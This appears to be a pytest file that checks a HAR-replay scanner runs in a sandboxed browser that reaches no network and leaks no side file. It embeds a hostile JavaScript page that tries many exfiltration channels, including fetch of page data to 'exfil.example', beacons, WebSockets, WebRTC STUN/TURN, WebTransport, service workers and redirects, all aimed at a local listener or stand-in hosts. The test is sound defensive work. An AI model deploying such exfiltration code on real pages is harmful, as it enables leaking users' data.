"""Acceptance 2 of issue 13: replaying a HAR reaches nothing but the HAR.

The HAR below is hostile: its page tries every way out it can (fetch and images to another host and
to a listener, a beacon, a preconnect, a WebSocket, WebRTC with STUN and TURN servers, WebTransport,
DNS prefetches and images at unique host names, a service worker), and one entry points at a file
lying beside the HAR (`_file`) that holds a canary. A listener on 127.0.0.1 (TCP and UDP) counts
what reaches it. It must see nothing, and the canary must appear nowhere: not in the page, not in
the report. DNS is checked in Chromium's own network log, since no test can own the resolver.
"""

from __future__ import annotations

import json
import select
import socket
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from checker import har as har_module
from checker.engine.browser import Session, launch
from checker.cli import main

LISTEN_SECONDS = 120  # the listener stops by itself after this, whatever happens


class Listener:
    """A TCP and a UDP socket on 127.0.0.1 that count every connection and packet until stopped."""

    def __init__(self):
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp_port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]
        self.connections = 0
        self.packets = 0
        self.seen = b""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        deadline = time.monotonic() + LISTEN_SECONDS
        while not self._stop.is_set() and time.monotonic() < deadline:
            ready, _, _ = select.select([self.tcp, self.udp], [], [], 0.1)
            for sock in ready:
                if sock is self.tcp:
                    conn, _ = self.tcp.accept()
                    self.connections += 1
                    conn.settimeout(0.5)
                    try:
                        self.seen += conn.recv(65536)
                    except OSError:
                        pass
                    conn.close()
                else:
                    data, _ = self.udp.recvfrom(65536)
                    self.packets += 1
                    self.seen += data

    def stop(self):
        self._stop.set()
        self._thread.join(5)
        self.tcp.close()
        self.udp.close()


ATTACK_JS = """
const T = 'http://127.0.0.1:%(tcp)d', TWS = 'ws://127.0.0.1:%(tcp)d', U = %(udp)d;
const results = {};
const settle = (ms) => new Promise((r) => setTimeout(r, ms));
async function attempt(name, fn) {
  try { results[name] = 'reached: ' + String(await Promise.race([fn(), settle(3000).then(() => 'no answer')])); }
  catch (e) { results[name] = 'refused: ' + e; }
}
async function rtc(PC) {
  const pc = new PC({iceServers: [{urls: 'stun:127.0.0.1:' + U},
                                  {urls: 'turn:127.0.0.1:%(tcp)d?transport=tcp', username: 'u', credential: 'c'},
                                  {urls: 'stun:%(stun_host)s:' + U}]});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  await settle(1500);
  return pc.localDescription.sdp.length;
}
(async () => {
  await attempt('side file', async () => {
    const text = await (await fetch('/side-file.txt')).text();
    document.title = text; document.body.append(text); return text; });
  await attempt('fetch', () => fetch(T + '/fetch?' + document.title, {mode: 'no-cors'}));
  await attempt('other host', () => fetch('https://exfil.example/x?' + document.title));
  await attempt('beacon', () => navigator.sendBeacon(T + '/beacon', document.title));
  await attempt('event source', () => new Promise((ok, no) => {
    const es = new EventSource(T + '/events'); es.onopen = () => ok('open'); es.onerror = () => no('error'); }));
  await attempt('websocket', () => new Promise((ok, no) => {
    const ws = new WebSocket(TWS + '/ws'); ws.onopen = () => ok('open');
    ws.onclose = (e) => no('closed ' + e.code); }));
  await attempt('websocket other host', () => new Promise((ok, no) => {
    const ws = new WebSocket('wss://chatgpt.com/ws'); ws.onopen = () => ok('open');
    ws.onclose = (e) => no('closed ' + e.code); }));
  await attempt('webrtc', () => rtc(window.RTCPeerConnection));
  await attempt('webrtc from a fresh frame', () => {
    const frame = document.createElement('iframe'); document.body.append(frame);
    return rtc(frame.contentWindow.RTCPeerConnection); });
  await attempt('webtransport', async () => {
    const wt = new (window.WebTransport || document.body.lastChild.contentWindow.WebTransport)(
      'https://127.0.0.1:' + U + '/wt'); await wt.ready; return 'ready'; });
  await attempt('service worker', () => navigator.serviceWorker.register('/sw.js'));
  await attempt('worker fetch', () => new Promise((ok, no) => {
    const w = new Worker(URL.createObjectURL(new Blob(
      ["fetch('%(tcp_url)s/worker').then(() => postMessage('ok'), (e) => postMessage('refused ' + e))"])));
    w.onmessage = (e) => (e.data === 'ok' ? ok(e.data) : no(e.data)); }));
  // The next hop of a redirect answered to a form POST goes past the routing (see
  // checker/replicas/routing.py): one to the listener, one to a name only DNS would see.
  for (const target of ['to-listener', 'to-name']) {
    const frame = document.createElement('iframe'); frame.name = target; document.body.append(frame);
    const form = document.createElement('form'); form.method = 'POST'; form.action = '/redirect-' + target;
    form.target = target; document.body.append(form); form.submit();
  }
  const img = new Image(); img.src = 'https://%(dns_img)s/pixel.png';
  const img2 = new Image(); img2.src = T + '/pixel.png';
  await settle(2000);
  document.body.dataset.done = JSON.stringify(results);
})();
"""


def _redirect(url: str, location: str) -> dict:
    entry = _entry(url, "text/html", "")
    entry["request"]["method"] = "POST"
    entry["request"]["postData"] = {"mimeType": "application/x-www-form-urlencoded", "text": ""}
    entry["response"].update(status=303, statusText="See Other", redirectURL=location)
    entry["response"]["headers"].append({"name": "Location", "value": location})
    return entry


def _entry(url: str, mime: str, text: str | None = None, *, side_file: str | None = None) -> dict:
    content: dict = {"size": len(text or ""), "mimeType": mime}
    if text is not None:
        content["text"] = text
    if side_file:
        content["_file"] = side_file
    return {"startedDateTime": "2026-12-03T00:00:00.000Z", "time": 1,
            "request": {"method": "GET", "url": url, "httpVersion": "HTTP/1.1", "headers": [], "queryString": [],
                        "cookies": [], "headersSize": -1, "bodySize": 0},
            "response": {"status": 200, "statusText": "OK", "httpVersion": "HTTP/1.1",
                         "headers": [{"name": "Content-Type", "value": mime}], "cookies": [], "content": content,
                         "redirectURL": "", "headersSize": -1, "bodySize": -1},
            "cache": {}, "timings": {"send": 0, "wait": 1, "receive": 0}}


@pytest.fixture
def hostile(tmp_path):
    """The hostile HAR, the canary file beside it, and the listener it aims at."""
    listener = Listener()
    tag = uuid.uuid4().hex[:12]
    canary = f"CANARY-SIDE-FILE-{tag}"
    (tmp_path / "canary.txt").write_text(canary)
    names = {"dns_prefetch": f"prefetch-{tag}.example", "dns_img": f"img-{tag}.example",
             "stun_host": f"stun-{tag}.example", "preconnect": f"preconnect-{tag}.example",
             "redirect": f"redirect-{tag}.example"}
    script = ATTACK_JS % {"tcp": listener.tcp_port, "udp": listener.udp_port,
                          "tcp_url": f"http://127.0.0.1:{listener.tcp_port}", **names}
    page = (f'<!doctype html><html><head><title>Settings</title>'
            f'<link rel="dns-prefetch" href="//{names["dns_prefetch"]}">'
            f'<link rel="preconnect" href="https://{names["preconnect"]}">'
            f'<link rel="preconnect" href="http://127.0.0.1:{listener.tcp_port}">'
            f'</head><body><h1>Settings</h1><script src="/attack.js"></script></body></html>')
    sw = f"self.addEventListener('install', () => fetch('http://127.0.0.1:{listener.tcp_port}/sw'));"
    har = {"log": {"version": "1.2", "creator": {"name": "hostile", "version": "1"}, "pages": [], "entries": [
        _entry("https://chatgpt.com/", "text/html; charset=utf-8", page),
        _entry("https://chatgpt.com/attack.js", "application/javascript", script),
        _entry("https://chatgpt.com/sw.js", "application/javascript", sw),
        _entry("https://chatgpt.com/side-file.txt", "text/plain", side_file="canary.txt"),
        _redirect("https://chatgpt.com/redirect-to-listener", f"http://127.0.0.1:{listener.tcp_port}/after-redirect"),
        _redirect("https://chatgpt.com/redirect-to-name", f"https://{names['redirect']}/after-redirect"),
    ]}}
    path = tmp_path / "hostile.har"
    path.write_text(json.dumps(har))
    yield path, canary, listener, names
    listener.stop()


def _no_dns(net_log: Path, names: dict) -> list[str]:
    """Host names Chromium tried to resolve, from its network log (a resolver job or DNS task)."""
    text = net_log.read_text(errors="replace")
    log = json.loads(text if text.rstrip().endswith("}") else text.rstrip().rstrip(",") + "]}")
    types = {v: k for k, v in log["constants"]["logEventTypes"].items()}
    tried = set()
    for event in log["events"]:
        kind = types.get(event.get("type"), "")
        if kind.startswith(("HOST_RESOLVER_MANAGER_JOB", "HOST_RESOLVER_DNS_TASK", "HOST_RESOLVER_SYSTEM_TASK")):
            host = json.dumps(event.get("params", {}))
            tried |= {name for name in names.values() if name in host} | ({kind} if "JOB" in kind else set())
    return sorted(tried)


def test_a_hostile_har_reaches_nothing(engine, hostile, tmp_path):
    path, canary, listener, names = hostile
    net_log = tmp_path / "netlog.json"
    checked = har_module.check_file(path)
    assert checked.side_files == 1

    async def replay_once():
        # The same launch and the same `prepare` as `untrain scan --har`, plus Chromium's network log.
        browser = await launch(engine.playwright, sandbox=True)
        try:
            session = Session(browser=browser, prepare=har_module.replay(path, checked))
            async with session.page() as page:
                await page.goto("https://chatgpt.com/")
                await page.wait_for_selector("body[data-done]", state="attached", timeout=60_000)
                return json.loads(await page.get_attribute("body", "data-done")), await page.content()
        finally:
            await browser.close()

    sandbox = list(har_module.SANDBOX_ARGS)
    har_module.SANDBOX_ARGS.append(f"--log-net-log={net_log}")
    try:
        results, content = engine.run(replay_once())
    finally:
        har_module.SANDBOX_ARGS[:] = sandbox
    time.sleep(0.5)  # anything still on its way to the listener
    assert (listener.connections, listener.packets) == (0, 0), (results, listener.seen[:300])
    assert canary not in content and canary.encode() not in listener.seen
    print(json.dumps(results, indent=1))
    assert _no_dns(net_log, names) == []


def test_scan_har_of_a_hostile_file_reaches_nothing(untrain_home, hostile, tmp_path, capsys):
    # `untrain scan --har` itself: the page finds no settings (exit 2), the listener sees nothing,
    # and the report says nothing of the canary.
    path, canary, listener, _ = hostile
    report = tmp_path / "report.json"
    with ThreadPoolExecutor(max_workers=1) as pool:
        code = pool.submit(main, ["scan", "--har", str(path), "--provider", "chatgpt", "--json", str(report),
                                  "--timeout", "6"]).result(timeout=180)
    out = capsys.readouterr()
    assert code == 2
    time.sleep(0.5)
    assert (listener.connections, listener.packets) == (0, 0), listener.seen[:300]
    assert "point at a file beside the HAR" in " ".join(out.err.split())
    for text in (out.out, out.err, report.read_text()):
        assert canary not in text


def test_what_escapes_the_routing_still_reaches_nothing(engine, tmp_path):
    # The browser itself is the floor under the routing: a request no route answers (here, every
    # request but the page) must resolve no name and connect nowhere, loopback included. Without the
    # sandbox's flags, the same page makes Chromium start a DNS job and connect to the listener.
    listener = Listener()
    name = f"escape-{uuid.uuid4().hex[:12]}.example"
    net_log = tmp_path / "netlog.json"
    page_html = (f'<img src="https://{name}/x.png"><img src="http://127.0.0.1:{listener.tcp_port}/x.png">'
                 f'<script>fetch("http://127.0.0.1:{listener.tcp_port}/f").catch(() => 0)'
                 '.finally(() => setTimeout(() => document.body.dataset.done = 1, 1000))</script>')

    async def visit():
        browser = await launch(engine.playwright, sandbox=True)
        try:
            context = await browser.new_context(service_workers="block")
            await context.route("https://chatgpt.com/", lambda route: route.fulfill(body=page_html,
                                                                                  content_type="text/html"))
            page = await context.new_page()
            await page.goto("https://chatgpt.com/")
            await page.wait_for_selector("body[data-done]", state="attached", timeout=30_000)
        finally:
            await browser.close()

    sandbox = list(har_module.SANDBOX_ARGS)
    har_module.SANDBOX_ARGS.append(f"--log-net-log={net_log}")
    try:
        engine.run(visit())
    finally:
        har_module.SANDBOX_ARGS[:] = sandbox
        time.sleep(0.5)
        listener.stop()
    assert (listener.connections, listener.packets) == (0, 0)
    assert _no_dns(net_log, {"escape": name}) == []
